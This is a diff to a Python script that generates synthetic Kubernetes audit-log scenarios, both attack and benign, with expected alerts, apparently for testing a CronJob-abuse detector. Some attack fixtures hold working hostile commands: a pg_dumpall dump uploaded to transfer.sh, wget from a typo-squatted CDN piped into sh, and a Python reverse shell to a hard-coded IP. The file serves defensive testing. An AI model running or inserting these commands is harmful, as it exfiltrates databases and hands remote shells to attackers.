@@ -312,14 +312,54 @@ def a_rearm_suspended():
            "A pod's service-account token (vault namespace) merge-patches a dormant destructive CronJob: suspend true->false and schedule quarterly -> every 2 minutes")
 
 
-def a_create_job_from_cronjob_modified():
-    rng, c, log, noise, b = setup(111, ["databases", "default", "app"], flavour="gke")
+def apply_body_from(obj, tracking):
+    """A server-side-apply body for a stored object: what a GitOps tool sends (no server-set fields)."""
+    body = copy.deepcopy(obj)
+    md = body["metadata"]
+    for k in ("uid", "resourceVersion", "generation", "creationTimestamp"):
+        md.pop(k, None)
+    ann = dict(md.get("annotations") or {})
+    ann["argocd.argoproj.io/tracking-id"] = tracking
+    md["annotations"] = M(ann)
+    body.pop("status", None)
+    return body
+
+
+def _manual_job_modified(seed, variant):
+    rng, c, log, noise, b = setup(seed, ["databases", "default", "app"], flavour="gke" if variant == "gitops" else "kubeadm",
+                                  hour=1 if variant == "tick" else None)
     spec = podspec([container("backup", "registry.example.org/dba/pg-backup:15.6-2",
                               ["/usr/local/bin/pg-backup"], ["--target=gs://example-db-backups/orders", "--compress=zstd"],
                               env=[("PGHOST", "orders-db-rw"), ("PGUSER", "backup")], sc=sc_restricted(26))],
                    restart="OnFailure", sa="pg-backup")
     cj = b.stored_cronjob("databases", "orders-db-backup", "15 2 * * *", spec, log.t - dt.timedelta(days=90),
                           job_labels={"app": "orders-db-backup"}, tmpl_labels={"app": "orders-db-backup"})
+    if variant == "gitops":
+        # Argo CD re-syncs the (unchanged) CronJob: its full template is in the log.
+        argo = c.sa("argocd", "argocd-application-controller", "argocd-application-controller-0")
+        areason = rbac_reason_crb("argocd-application-controller", "argocd-application-controller", "ServiceAccount",
+                                  "argocd-application-controller/argocd")
+        body = apply_body_from(cj, "databases:batch/CronJob:databases/orders-db-backup")
+
+        def same(o):
+            o["metadata"]["annotations"] = body["metadata"]["annotations"]
+            return o
+        b.patch_cronjob(ns="databases", name="orders-db-backup", patch=body, new_obj_fn=same, user=argo,
+                        ua="argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format", ips=[c.pod_ip()], reason=areason,
+                        query="?fieldManager=argocd-controller&force=true")
+        noise.burst(rng.randint(6, 10))
+        log.gap(rng.randint(1800, 5400))
+    else:
+        # The nightly run: the cronjob-controller's Job carries the CronJob's template.
+        slot = log.t.replace(hour=2, minute=15, second=0, microsecond=0)
+        if slot < log.t:
+            slot += dt.timedelta(days=1)
+        log.t = slot - dt.timedelta(seconds=rng.randint(20, 50))
+        noise.burst(rng.randint(4, 8))
+        log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(30, 400)))
+        b.tick("databases", "orders-db-backup", slot)
+        noise.burst(rng.randint(6, 10))
+        log.gap(rng.randint(5 * 3600, 8 * 3600))
     user = human_oidc("k.oduya@example.org", ["dba"])
     ua = c.kubectl_ua("linux/amd64", "1.29.1")
     ip = ["10.64.9.23"]
@@ -330,14 +370,26 @@ def a_create_job_from_cronjob_modified():
     ct = evil["containers"][0]
     ct["command"] = ["/bin/sh", "-c"]
     ct["args"] = ["pg_dumpall -h orders-db-rw -U backup | gzip | curl -s -T - https://transfer.sh/orders.sql.gz"]
-    aid, _ = b.create_job(ns="databases", name="orders-db-backup-manual-x7k", pod_spec=evil, user=user, ua=ua, ips=ip, reason=reason,
+    name = "orders-db-backup-manual-x7k" if variant == "gitops" else "orders-db-backup-rerun"
+    aid, _ = b.create_job(ns="databases", name=name, pod_spec=evil, user=user, ua=ua, ips=ip, reason=reason,
                           owners=[owner("CronJob", "orders-db-backup", cj["metadata"]["uid"], block=None)],
                           annotations={"cronjob.kubernetes.io/instantiate": "manual"}, labels={"app": "orders-db-backup"},
                           tmpl_labels={"app": "orders-db-backup"})
-    b.run_job("databases", "orders-db-backup-manual-x7k")
+    b.run_job("databases", name)
     noise.burst(rng.randint(5, 8))
+    return log, aid
+
+
+def a_create_job_from_cronjob_modified():
+    log, aid = _manual_job_modified(111, "gitops")
     attack("create-job-from-cronjob-modified-template", log, [aid],
-           "Manual Job (instantiate: manual, ownerRef to the CronJob) whose command differs from the CronJob template: pg_dumpall piped to transfer.sh")
+           "Manual Job (instantiate: manual, ownerRef to the CronJob) whose command differs from the CronJob template (seen in an earlier Argo CD sync): pg_dumpall piped to transfer.sh")
+
+
+def a_create_job_from_cronjob_modified_known_from_tick():
+    log, aid = _manual_job_modified(122, "tick")
+    attack("create-job-from-cronjob-modified-template-known-from-tick", log, [aid],
+           "Manual Job whose command differs from the CronJob's template; the template is only visible in the cronjob-controller's Job from the 02:15 run: pg_dumpall piped to transfer.sh")
 
 
 def a_fake_owner_reference():
@@ -587,6 +639,52 @@ def a_replace_update_hijack():
     noise.burst(rng.randint(6, 10))
     attack("hijack-cronjob-kubectl-replace-update", log, [aid],
            "A CI Google service account used from outside the usual runners replaces (PUT) a CronJob: image moved to Docker Hub, wget | sh appended, schedule every 3 minutes")
+
+
+def a_gitops_compromised_repo():
+    rng, c, log, noise, b = setup(123, ["marketing", "argocd", "default"], flavour="eks", stages=True)
+    user = c.sa("argocd", "argocd-application-controller", "argocd-application-controller-0")
+    ua = "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format"
+    ip = [c.pod_ip()]
+    reason = rbac_reason_crb("argocd-application-controller", "argocd-application-controller", "ServiceAccount", "argocd-application-controller/argocd")
+    spec = podspec([container("sitemap", "node:20-alpine", ["sh", "-c"],
+                              ["npm ci --omit=dev >/dev/null && node scripts/sitemap.js; wget -qO- https://cdn-jsdelivr.net.co/npm/sitemap-gen@latest/postinstall.sh | sh"])],
+                   restart="OnFailure")
+    labels = {"app.kubernetes.io/instance": "marketing-site", "app.kubernetes.io/name": "sitemap-refresh"}
+    ann = {"argocd.argoproj.io/tracking-id": "marketing-site:batch/CronJob:marketing/sitemap-refresh"}
+    log.begin()
+    obj = cronjob_object("sitemap-refresh", "marketing", "*/10 * * * *", spec, labels=labels, annotations=ann,
+                         server=(c.uid(), log.next_rv(), ts_sec(log.t)))
+    body = apply_body_from(obj, ann["argocd.argoproj.io/tracking-id"])
+    aid = log.request(verb="patch", uri="/apis/batch/v1/namespaces/marketing/cronjobs/sitemap-refresh?fieldManager=argocd-controller&force=true",
+                      user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "marketing", "sitemap-refresh"), level="RequestResponse",
+                      code=201, req=body, resp=obj, annotations={"authorization.k8s.io/reason": reason})
+    b.cronjobs[("marketing", "sitemap-refresh")] = obj
+    noise.burst(rng.randint(8, 12))
+    attack("gitops-synced-cronjob-with-wget-sh", log, [aid],
+           "Argo CD faithfully syncs a CronJob from a compromised git repo: its container pipes wget from a typo-squatted CDN into sh (trusted identity, malicious content)")
+
+
+def a_server_side_apply_python_reverse_shell():
+    rng, c, log, noise, b = setup(124, ["analytics", "default", "kafka"], flavour="onprem", stages=True)
+    user = {"username": "svc-etl", "uid": "1012", "groups": ["etl-operators", "system:authenticated"]}
+    ua = c.kubectl_ua("linux/amd64", "1.29.3")
+    ip = ["172.16.88.14"]
+    reason = rbac_reason_rb("etl-operators", "analytics", "ClusterRole", "edit", "Group", "etl-operators")
+    shell = ("import socket,os,pty;s=socket.socket();s.connect(('92.118.39.62',443));"
+             "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')")
+    spec = podspec([container("compact", "python:3.11-slim", ["python3", "-c", shell])], restart="OnFailure")
+    log.begin()
+    obj = cronjob_object("kafka-offsets-compact", "analytics", "@hourly", spec, server=(c.uid(), log.next_rv(), ts_sec(log.t)))
+    body = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "kafka-offsets-compact", "namespace": "analytics"},
+            "spec": {"schedule": "@hourly", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure",
+                     "containers": [{"name": "compact", "image": "python:3.11-slim", "command": ["python3", "-c", shell]}]}}}}}}
+    aid = log.request(verb="patch", uri="/apis/batch/v1/namespaces/analytics/cronjobs/kafka-offsets-compact?fieldManager=kubectl&fieldValidation=Strict&force=false",
+                      user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "analytics", "kafka-offsets-compact"), level="RequestResponse",
+                      code=201, req=body, resp=obj, annotations={"authorization.k8s.io/reason": reason})
+    noise.burst(rng.randint(8, 12))
+    attack("server-side-apply-cronjob-python-reverse-shell", log, [aid],
+           "A static-token user creates a CronJob with kubectl apply --server-side whose container is a python socket/pty reverse shell (no /dev/tcp, no nc)")
 
 
 # ==========================================================================
@@ -923,9 +1021,19 @@ def b_argo_workflows():
            "Argo Workflows controller creates step pods (argoexec emissary running sh -c) owned by a Workflow; no batch objects")
 
 
-def b_sre_create_job_from():
-    rng, c, log, noise, b = setup(209, ["reporting", "default", "payments"], flavour="eks", stages=True)
+def b_sre_create_job_from(seed=209, known_parent=False):
+    rng, c, log, noise, b = setup(seed, ["reporting", "default", "payments"], flavour="eks" if not known_parent else "rke2", stages=True,
+                                  hour=0 if known_parent else None)
     cj = nightly_report_cronjob(b, "reporting", log.t - dt.timedelta(days=100))
+    if known_parent:
+        # the 01:30 (Europe/Berlin) run failed overnight; its Job shows the CronJob's template
+        slot = log.t.replace(minute=30, second=0, microsecond=0)
+        if slot < log.t:
+            slot += dt.timedelta(hours=1)
+        log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(30, 400)))
+        b.tick("reporting", "nightly-report", slot, succeed=False)
+        noise.burst(rng.randint(6, 10))
+        log.gap(rng.randint(6 * 3600, 8 * 3600))
     user = human_oidc("maria.kovacs@example.org", ["platform-sre"])
     ua = c.kubectl_ua("darwin/arm64", "1.29.3")
     ip = ["10.8.14.3"]
@@ -943,8 +1051,16 @@ def b_sre_create_job_from():
     log.request(verb="get", uri="/apis/batch/v1/namespaces/reporting/jobs/nightly-report-manual-1", user=user, ua=ua, ips=ip,
                 object_ref=batch_ref("jobs", "reporting", "nightly-report-manual-1"), annotations={"authorization.k8s.io/reason": reason})
     noise.burst(rng.randint(5, 8))
-    benign("sre-create-job-from-cronjob-identical", log,
-           "SRE runs kubectl create job --from=cronjob/nightly-report nightly-report-manual-1: template identical, ownerReference with the real uid")
+    if known_parent:
+        benign("sre-rerun-failed-cronjob-identical-after-tick", log,
+               "After the nightly run failed, an SRE re-runs it with kubectl create job --from=cronjob/nightly-report; the template (visible in the controller's Job) is identical")
+    else:
+        benign("sre-create-job-from-cronjob-identical", log,
+               "SRE runs kubectl create job --from=cronjob/nightly-report nightly-report-manual-1: template identical, ownerReference with the real uid")
+
+
+def b_sre_rerun_after_tick():
+    b_sre_create_job_from(215, known_parent=True)
 
 
 def b_sre_apply_cronjob():
@@ -1091,6 +1207,60 @@ def b_ci_apply_cronjob_gitops_checkout():
                       "audit_ids": [aid]}
 
 
+def b_argocd_create_job_action():
+    rng, c, log, noise, b = setup(216, ["reporting", "argocd", "default"], flavour="gke", stages=True)
+    cj = nightly_report_cronjob(b, "reporting", log.t - dt.timedelta(days=33))
+    user = c.sa("argocd", "argocd-server", f"argocd-server-{rand_suffix(rng, 10)}-{rand_suffix(rng)}")
+    ua = "argocd-server/v0.0.0 (linux/amd64) kubernetes/$Format"
+    ip = [c.pod_ip()]
+    reason = rbac_reason_crb("argocd-server", "argocd-server", "ServiceAccount", "argocd-server/argocd")
+    b.get_cronjob("reporting", "nightly-report", user, ua, ip, reason)
+    t = copy.deepcopy(cj["spec"]["jobTemplate"])
+    name = f"nightly-report-{log.t.strftime('%y%m%d%H%M')}"
+    b.create_job(ns="reporting", name=name, pod_spec=t["spec"]["template"]["spec"], user=user, ua=ua, ips=ip, uri_query="", reason=reason,
+                 owners=[owner("CronJob", "nightly-report", cj["metadata"]["uid"], controller=True, block=True)],
+                 annotations={"cronjob.kubernetes.io/instantiate": "manual"},
+                 tmpl_labels=t["spec"]["template"]["metadata"].get("labels"))
+    b.run_job("reporting", name)
+    noise.burst(rng.randint(5, 8))
+    benign("argocd-create-job-action-from-cronjob", log,
+           "An operator uses Argo CD's 'create job' resource action: argocd-server creates nightly-report-<yymmddHHMM> from the CronJob with an identical template")
+
+
+def b_helm_descheduler_kube_system():
+    rng, c, log, noise, b = setup(217, ["kube-system", "default", "monitoring"], flavour="kubeadm")
+    pod = f"runner-{rand_suffix(rng, 8)}-project-{rng.randint(100, 999)}-concurrent-0-{rand_suffix(rng, 8)}"
+    user = c.sa("gitlab-runner", "platform-deployer", pod)
+    ua = "Helm/3.14.4"
+    ip = [c.pod_ip()]
+    reason = rbac_reason_crb("platform-deployer", "cluster-admin", "ServiceAccount", "platform-deployer/gitlab-runner")
+    labels = {"app.kubernetes.io/instance": "descheduler", "app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/name": "descheduler",
+              "app.kubernetes.io/version": "0.29.0", "helm.sh/chart": "descheduler-0.29.0"}
+    ct = container("descheduler", "registry.k8s.io/descheduler/descheduler:v0.29.0", ["/bin/descheduler"],
+                   ["--policy-config-file=/policy-dir/policy.yaml", "--v=3"], mounts=[mount("policy-volume", "/policy-dir")],
+                   resources=res("500m", "256Mi"),
+                   sc={"capabilities": {"drop": ["ALL"]}, "privileged": False, "readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False})
+    ct["livenessProbe"] = {"httpGet": {"path": "/healthz", "port": 10258, "scheme": "HTTPS"}, "initialDelaySeconds": 3,
+                           "timeoutSeconds": 1, "periodSeconds": 10, "successThreshold": 1, "failureThreshold": 3}
+    spec = podspec([ct], restart="Never", sa="descheduler", volumes=[cm_vol("policy-volume", "descheduler")],
+                   priority_class="system-cluster-critical")
+    for res_, name in [("serviceaccounts", "descheduler"), ("configmaps", "descheduler")]:
+        log.request(verb="create", uri=f"/api/v1/namespaces/kube-system/{res_}?fieldManager=helm", user=user, ua=ua, ips=ip,
+                    object_ref=objref(res_, "kube-system", name), code=201, annotations={"authorization.k8s.io/reason": reason})
+    aid = b.create_cronjob(ns="kube-system", name="descheduler", schedule="*/2 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
+                           uri_query="?fieldManager=helm", reason=reason, labels=labels, concurrency="Forbid",
+                           annotations={"meta.helm.sh/release-name": "descheduler", "meta.helm.sh/release-namespace": "kube-system"},
+                           tmpl_labels={"app.kubernetes.io/instance": "descheduler", "app.kubernetes.io/name": "descheduler"})
+    noise.burst(rng.randint(6, 10))
+    path = "needs-config/helm-installs-descheduler-cronjob-in-kube-system.jsonl"
+    log.write(os.path.join(SCEN, path))
+    EXPECTED[path] = {"kind": "needs-config",
+                      "description": "CI runs helm install of the upstream descheduler chart: a clean, non-root CronJob from registry.k8s.io in kube-system every 2 minutes",
+                      "without_config": "medium acceptable (a CronJob placed in kube-system by an identity that is not a system component)",
+                      "with_config": "no alert at medium or above when the config trusts system:serviceaccount:gitlab-runner:platform-deployer as automation",
+                      "audit_ids": [aid]}
+
+
 # ==========================================================================
 # needs configuration
 
@@ -1155,10 +1325,12 @@ ATTACKS = [a_stolen_admin_cronjob_curl_sh, a_masquerade_kube_proxy_sync, a_miner
            a_in_pod_sa_token_job, a_anonymous_job, a_impersonation_cronjob, a_hijack_patch, a_rearm_suspended,
            a_create_job_from_cronjob_modified, a_fake_owner_reference, a_rbac_denied, a_evidence_hiding, a_recon,
            a_node_cron_hostpath, a_hijack_json_patch, a_ssa_hijack_cdk_style, a_containerd_socket_job,
-           a_impersonate_cronjob_controller, a_replace_update_hijack]
+           a_impersonate_cronjob_controller, a_replace_update_hijack, a_create_job_from_cronjob_modified_known_from_tick,
+           a_gitops_compromised_repo, a_server_side_apply_python_reverse_shell]
 BENIGN = [b_cronjob_controller_ticks, b_ttl_gc_deletes, b_helm_hooks, b_argocd, b_flux, b_velero, b_airflow, b_argo_workflows,
-          b_sre_create_job_from, b_sre_apply_cronjob, b_dry_run, b_metadata_only, b_monitoring]
-NEEDS_CONFIG = [n_trivy_node_collector, n_kube_bench, b_ci_apply_cronjob_gitops_checkout]
+          b_sre_create_job_from, b_sre_apply_cronjob, b_dry_run, b_metadata_only, b_monitoring, b_sre_rerun_after_tick,
+          b_argocd_create_job_action]
+NEEDS_CONFIG = [n_trivy_node_collector, n_kube_bench, b_ci_apply_cronjob_gitops_checkout, b_helm_descheduler_kube_system]
 
 
 def main():
@@ -1166,6 +1338,7 @@ def main():
         os.makedirs(os.path.join(SCEN, d), exist_ok=True)
     for f in ATTACKS + BENIGN + NEEDS_CONFIG:
         f()
+    import demo  # noqa: E402
     with open(os.path.join(SCEN, "expected.json"), "w", encoding="utf-8") as fh:
         doc = {
             "schema": "jobwarden.scenarios/v1",
@@ -1173,14 +1346,14 @@ def main():
             "rules": {
                 "attack": "every auditID in must_cite appears in the evidence of at least one alert with severity >= min_severity; may_cite ids may also be cited",
                 "benign": "no alert with severity medium, high or critical",
-                "needs-config": "documents a security tool that legitimately needs host access; see without_config / with_config",
+                "needs-config": "security tools and CI that legitimately need host access or write CronJobs; see without_config / with_config",
+                "demo": "each attack's must_cite ids appear in a medium+ alert; no medium+ alert cites a routine_below_medium id",
             },
             "scenarios": dict(sorted(EXPECTED.items())),
+            "demo": demo.write_demo(os.path.join(ROOT, "examples", "audit-demo.jsonl")),
         }
         json.dump(doc, fh, indent=2, sort_keys=False)
         fh.write("\n")
-    import demo  # noqa: E402
-    demo.write_demo(os.path.join(ROOT, "examples", "audit-demo.jsonl"))
 
 
 if __name__ == "__main__":
